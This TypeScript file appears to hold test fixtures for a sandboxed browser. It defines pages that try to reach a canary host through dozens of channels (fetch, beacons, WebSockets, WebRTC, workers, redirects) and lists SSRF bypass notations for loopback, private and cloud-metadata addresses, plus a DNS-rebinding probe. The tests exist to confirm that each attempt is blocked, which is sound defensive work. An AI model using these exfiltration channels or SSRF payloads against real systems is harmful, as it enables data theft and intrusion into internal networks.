/** Pages that try to reach a forbidden address, each by one way that a browser has out. */

import { type Hostile, SILENT } from "./hostile.ts";

const AT = "http://{canary}/{id}";

const carrier = (id: string, html: string, more: Partial<Hostile> = {}): Hostile => ({
  id: `carrier-${id}`,
  html,
  expects: SILENT,
  reaches: "tcp",
  ...more,
});

const scripted = (id: string, script: string, more: Partial<Hostile> = {}): Hostile =>
  carrier(id, "", { script, ...more });

/** A press does it, or needs to be one for the browser to allow it. */
const pressed = (id: string, does: string, more: Partial<Hostile> = {}): Hostile =>
  carrier(id, '<button id="go">More</button>', {
    script: `document.getElementById("go").addEventListener("click", function () { ${does} });`,
    press: "click",
    ...more,
  });

/** Chromium does none of it by itself, in the state that tests have it in; who walks must not, either. */
const quiet = (id: string, head: string, headers: Readonly<Record<string, string>> = {}): Hostile => ({
  id: `carrier-${id}`,
  html: "",
  head,
  headers,
  expects: SILENT,
});

/** Whether Chromium has it depends on its release and its settings. */
const tried = (id: string, script: string): Hostile => ({
  id: `carrier-${id}`,
  html: "",
  script: `try { ${script} } catch {}`,
  expects: SILENT,
});

const to = (status: number): NonNullable<Hostile["files"]>[string] => ({
  status,
  headers: { location: `${AT}/redirected` },
});

export const CARRIERS: readonly Hostile[] = [
  carrier("img", `<img src="${AT}/img" alt="">`),
  carrier("img-srcset", `<img srcset="${AT}/srcset 1x" alt="">`),
  carrier("picture", `<picture><source srcset="${AT}/picture"><img alt=""></picture>`),
  carrier("script", `<script src="${AT}/script"></script>`),
  carrier("script-module", `<script type="module" src="${AT}/module"></script>`),
  carrier("stylesheet", "", { head: `<link rel="stylesheet" href="${AT}/css">` }),
  carrier("css-import", "", { head: `<style>@import url("${AT}/import");</style>` }),
  carrier("css-background", `<div style="width:9px;height:9px;background:url(${AT}/background)"></div>`),
  carrier("font", "<p>x</p>", {
    head: `<style>@font-face { font-family: f; src: url(${AT}/font) } p { font-family: f }</style>`,
  }),
  carrier("iframe", `<iframe src="${AT}/iframe"></iframe>`),
  carrier("iframe-srcdoc", `<iframe srcdoc="&lt;img src=${AT}/srcdoc&gt;"></iframe>`),
  carrier("frameset", `<!DOCTYPE html><title>f</title><frameset cols="50%,50%"><frame src="${AT}/frame"></frameset>`),
  carrier("object", `<object data="${AT}/object" type="text/html"></object>`),
  carrier("embed", `<embed src="${AT}/embed" type="text/html">`),
  carrier("video", `<video src="${AT}/video" autoplay muted></video>`),
  carrier("video-poster", `<video poster="${AT}/poster"></video>`),
  carrier("audio", `<audio src="${AT}/audio" preload="auto"></audio>`),
  carrier(
    "track",
    `<video src="data:video/mp4," crossorigin><track default kind="subtitles" src="${AT}/track"></video>`,
    {
      script: 'document.querySelector("track").track.mode = "showing";',
    },
  ),
  carrier("input-image", `<input type="image" src="${AT}/input">`),
  carrier("svg-image", `<svg><image href="${AT}/svg" width="9" height="9"></image></svg>`),
  quiet("opensearch", `<link rel="search" type="application/opensearchdescription+xml" href="${AT}/search">`),
  quiet("compression-dictionary", `<link rel="compression-dictionary" href="${AT}/dictionary">`),
  quiet(
    "reporting-endpoints",
    `<meta http-equiv="content-security-policy" content="img-src 'none'"><img src="/blocked" alt="">`,
    {
      "reporting-endpoints": `a="${AT}/reported"`,
      "report-to": `{"group":"a","max_age":9999,"endpoints":[{"url":"${AT}/reported"}]}`,
      "content-security-policy": "img-src 'none'; report-to a",
      nel: '{"report_to":"a","max_age":9999,"success_fraction":1,"failure_fraction":1}',
    },
  ),
  quiet("attribution", `<img attributionsrc="${AT}/attribution" src="/x" alt="">`),
  tried("fetch-later", `fetchLater("${AT}/later", { activateAfter: 0 });`),
  tried("web-socket-stream", 'new WebSocketStream("ws://{canary}/{id}");'),
  tried(
    "credentials",
    `navigator.credentials.get({ identity: { providers: [{ configURL: "${AT}/config.json", clientId: "x" }] } }).catch(function () {});`,
  ),
  tried(
    "payment",
    `new PaymentRequest([{ supportedMethods: "${AT}/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(function () {});`,
  ),
  tried(
    "service-worker-by-prototype",
    'ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "/hostile/carrier-service-worker/worker.js", { scope: "/hostile/carrier-service-worker/" }).catch(function () {});',
  ),
  tried(
    "worker-in-frame",
    `const frame = document.createElement("iframe"); document.body.append(frame); const inner = 'fetch("${AT}/inner", { mode: "no-cors" })'; new frame.contentWindow.Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(inner) + "])))"])));`,
  ),
  quiet("icon", `<link rel="icon" href="${AT}/icon">`),
  quiet("manifest", `<link rel="manifest" href="${AT}/manifest">`),
  carrier("prefetch", "", { head: `<link rel="prefetch" href="${AT}/prefetch">` }),
  quiet("preconnect", `<link rel="preconnect" href="${AT}/">`),
  quiet("dns-prefetch", `<link rel="dns-prefetch" href="http://canary.invalid/">`),
  carrier("preload", "", { head: `<link rel="preload" as="image" href="${AT}/preload">` }),
  carrier("modulepreload", "", { head: `<link rel="modulepreload" href="${AT}/modulepreload">` }),
  quiet("prerender", `<link rel="prerender" href="${AT}/prerender">`),
  quiet(
    "speculation-rules",
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AT}/speculated"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${AT}/prerendered"],"eagerness":"immediate"}]}</script>`,
  ),
  carrier("link-header", "", { headers: { link: `<${AT}/header>; rel=preload; as=image` } }),
  carrier("csp-report", `<img src="/blocked" alt="">`, {
    headers: { "content-security-policy": `img-src 'none'; report-uri ${AT}/report` },
  }),
  carrier("form-get", `<form action="${AT}/get"><input name="q"></form>`, { script: "document.forms[0].submit();" }),
  carrier("form-post", `<form method="post" action="${AT}/post"><input name="q"></form>`, {
    script: "document.forms[0].submit();",
  }),
  carrier("meta-refresh", "", { head: `<meta http-equiv="refresh" content="0;url=${AT}/refresh">` }),
  carrier("refresh-header", "", { headers: { refresh: `0;url=${AT}/refresh` } }),
  carrier("base", '<img src="relative" alt="">', { head: `<base href="${AT}/">` }),
  scripted("location", `location = "${AT}/location";`),
  scripted("fetch", `fetch("${AT}/fetch").catch(function () {});`),
  scripted("fetch-no-cors", `fetch("${AT}/no-cors", { mode: "no-cors" }).catch(function () {});`),
  scripted(
    "fetch-post",
    `fetch("${AT}/posted", { method: "POST", mode: "no-cors", body: "x" }).catch(function () {});`,
  ),
  scripted("fetch-keepalive", `fetch("${AT}/keepalive", { keepalive: true, mode: "no-cors" }).catch(function () {});`),
  scripted(
    "fetch-at-leaving",
    `addEventListener("pagehide", function () { fetch("${AT}/leaving", { keepalive: true, mode: "no-cors" }); });
setTimeout(function () { location = "/hostile/carrier-fetch-at-leaving/next"; }, 300);`,
  ),
  scripted("xhr", `const asked = new XMLHttpRequest(); asked.open("GET", "${AT}/xhr"); asked.send();`),
  scripted(
    "xhr-sync",
    `const asked = new XMLHttpRequest(); asked.open("GET", "${AT}/xhr", false); try { asked.send(); } catch {}`,
  ),
  scripted("beacon", `navigator.sendBeacon("${AT}/beacon", "x");`),
  scripted(
    "beacon-at-leaving",
    `addEventListener("pagehide", function () { navigator.sendBeacon("${AT}/leaving", "x"); });
setTimeout(function () { location = "/hostile/carrier-beacon-at-leaving/next"; }, 300);`,
  ),
  scripted("event-source", `new EventSource("${AT}/events");`),
  scripted("web-socket", 'new WebSocket("ws://{canary}/{id}");'),
  scripted(
    "web-socket-in-worker",
    `new Worker(URL.createObjectURL(new Blob(['new WebSocket("ws://{canary}/{id}")'])));`,
  ),
  scripted(
    "web-rtc-stun",
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:{canary}", "stun:127.0.0.1:{canary-port}", "stun:10.0.0.1:{canary-port}", "stun:169.254.169.254:{canary-port}"] }] });
peer.createDataChannel("x");
peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); });`,
    { reaches: "udp" },
  ),
  scripted(
    "web-rtc-turn",
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: "turn:{canary}?transport=tcp", username: "u", credential: "c" }] });
peer.createDataChannel("x");
peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); });`,
  ),
  scripted(
    "web-rtc-candidate",
    `const peer = new RTCPeerConnection(), other = new RTCPeerConnection();
peer.createDataChannel("x");
peer.createOffer().then(async function (offer) {
  await peer.setLocalDescription(offer);
  await other.setRemoteDescription(offer);
  const answer = await other.createAnswer();
  await other.setLocalDescription(answer);
  await peer.setRemoteDescription(answer);
  const [host, port] = "{canary}".split(":");
  await peer.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 " + host + " " + port + " typ host", sdpMid: "0" });
});`,
    { reaches: "udp" },
  ),
  scripted("web-transport", 'try { new WebTransport("https://{canary}/{id}").ready.catch(function () {}); } catch {}', {
    reaches: "udp",
  }),
  scripted(
    "worker-fetch",
    `new Worker(URL.createObjectURL(new Blob(['fetch("${AT}/worker", { mode: "no-cors" })'])));`,
  ),
  scripted("worker-import", `new Worker(URL.createObjectURL(new Blob(['importScripts("${AT}/import")'])));`),
  scripted(
    "shared-worker",
    `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${AT}/shared", { mode: "no-cors" })'])));`,
  ),
  scripted("import", `import("${AT}/import").catch(function () {});`),
  scripted("worklet", `new AudioContext().audioWorklet.addModule("${AT}/worklet").catch(function () {});`),
  scripted("image-object", `new Image().src = "${AT}/image";`),
  scripted(
    "frame-by-script",
    `const frame = document.createElement("iframe"); document.body.append(frame); frame.src = "${AT}/frame";`,
  ),
  scripted(
    "service-worker",
    `navigator.serviceWorker && navigator.serviceWorker.register("/hostile/carrier-service-worker/worker.js").catch(function () {});`,
    {
      files: {
        "worker.js": {
          headers: { "content-type": "text/javascript" },
          body: `fetch("${AT}/service-worker", { mode: "no-cors" }); addEventListener("install", function (event) { event.waitUntil(fetch("${AT}/install", { mode: "no-cors" })); });`,
        },
      },
    },
  ),
  pressed("window-open", `window.open("${AT}/opened");`),
  pressed("window-open-then", `const other = window.open("about:blank"); if (other) other.location = "${AT}/opened";`),
  pressed(
    "link-pressed",
    `const link = document.createElement("a"); link.href = "${AT}/link"; link.target = "_blank"; link.click();`,
  ),
  carrier("ping", `<a id="go" href="#" ping="${AT}/ping">More</a>`, { press: "click" }),
  pressed(
    "download",
    `const link = document.createElement("a"); link.href = "${AT}/file.zip"; link.download = ""; link.click();`,
  ),
  pressed("fetch-on-press", `fetch("${AT}/pressed", { mode: "no-cors" }).catch(function () {});`),
  carrier("redirect-document", "", { status: 302, headers: { location: `${AT}/redirected` } }),
  carrier("redirect-document-post", '<form method="post" action="{self}/goes"></form>', {
    script: "document.forms[0].submit();",
    files: { goes: to(307) },
  }),
  carrier("redirect-img", '<img src="{self}/goes" alt="">', { files: { goes: to(302) } }),
  carrier("redirect-script", '<script src="{self}/goes"></script>', { files: { goes: to(301) } }),
  carrier("redirect-iframe", '<iframe src="{self}/goes"></iframe>', { files: { goes: to(303) } }),
  scripted("redirect-fetch", 'fetch("{self}/goes", { mode: "no-cors" }).catch(function () {});', {
    files: { goes: to(308) },
  }),
  scripted("redirect-event-source", 'new EventSource("{self}/goes");', { files: { goes: to(307) } }),
];

/** Of 127.0.0.66, as browsers read them; the rest lead to this machine in other ways. */
const NOTATIONS: Readonly<Record<string, string>> = {
  dotted: "127.0.0.66",
  short: "127.66",
  three: "127.0.66",
  decimal: "2130706498",
  hexadecimal: "0x7f000042",
  "hexadecimal-parts": "0x7f.0.0.0x42",
  octal: "0177.0.0.0102",
  "octal-whole": "017700000102",
  "final-dot": "127.0.0.66.",
  encoded: "%31%32%37.0.0.66",
  circled: "①②⑦.⓪.⓪.⑥⑥",
  "full-width": "１２７。０。０。６６",
  mapped: "[::ffff:127.0.0.66]",
  "mapped-hexadecimal": "[::ffff:7f00:42]",
  localhost: "localhost",
  "localhost-below": "any.localhost",
  credentials: "news.example@127.0.0.66",
};

/** Each by a redirect of the page itself, and all of them as parts of one page. */
export const PRIVATE: readonly Hostile[] = [
  ...Object.entries(NOTATIONS).map(
    ([name, host]): Hostile => ({
      id: `private-${name}`,
      html: "",
      status: 302,
      headers: { location: `http://${host}:{canary-port}/{id}` },
      expects: "the redirect is refused with a code, no connection to the canary",
      reaches: "tcp",
    }),
  ),
  {
    id: "private-parts",
    html: Object.values(NOTATIONS)
      .map(
        (host) =>
          `<img src="http://${host}:{canary-port}/{id}" alt=""><iframe src="http://${host}:{canary-port}/{id}"></iframe>`,
      )
      .join("\n"),
    expects: SILENT,
    reaches: "tcp",
  },
  {
    id: "private-beyond",
    html: [
      "10.0.0.1",
      "172.16.0.1",
      "192.168.0.1",
      "169.254.169.254",
      "100.100.100.200",
      "0.0.0.0",
      "0",
      "[::]",
      "[::1]",
      "[fd00::1]",
      "[fe80::1]",
      "[64:ff9b::7f00:42]",
      "metadata.google.internal",
      "192.0.0.1",
      "198.18.0.1",
      "224.0.0.1",
      "255.255.255.255",
    ]
      .map(
        (host) =>
          `<img src="http://${host}:{canary-port}/" alt=""><script async src="http://${host}/latest/meta-data/"></script>`,
      )
      .join("\n"),
    expects: "none of them is asked for, whether or not it exists; no connection to the canary",
  },
  {
    id: "private-by-name",
    html: '<img src="http://inside.example:{canary-port}/" alt=""><iframe src="http://inside.example:{canary-port}/"></iframe><script src="http://inside.example:{canary-port}/script"></script>',
    expects: "the name leads to the canary: it is refused, no connection to it",
  },
  {
    id: "private-rebinding",
    host: "changes.example",
    html: "",
    script:
      'for (let at = 0; at < 40; at++) fetch("{self}/x?" + at).catch(function () {}); setInterval(function () { fetch("{self}/y?" + Math.random()).catch(function () {}); }, 300);',
    expects: "its own name leads to the canary every second time: nothing connects but to what was checked",
  },
];
